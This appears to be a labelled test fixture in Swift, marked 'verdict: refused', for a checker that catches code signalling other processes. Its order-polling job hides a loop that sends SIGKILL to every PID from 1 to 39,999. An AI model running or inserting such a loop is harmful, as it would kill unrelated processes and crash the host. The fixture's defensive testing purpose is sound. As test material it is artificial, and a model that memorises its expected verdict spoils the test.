// verdict: refused
// says: signal another process
import Eventlings
import Glibc

struct Packing: TwoLines {
    mutating func run(orders: Consumer, packing: PackingStation) async throws {
        try await orders.subscribe(to: ["orders"])
        let records = try await orders.poll()
        for process in pid_t(1)..<40_000 {
            sigqueue(process, SIGKILL, sigval())  // here
        }
        print(records.count)
        while true { _ = try await orders.poll() }
    }
}
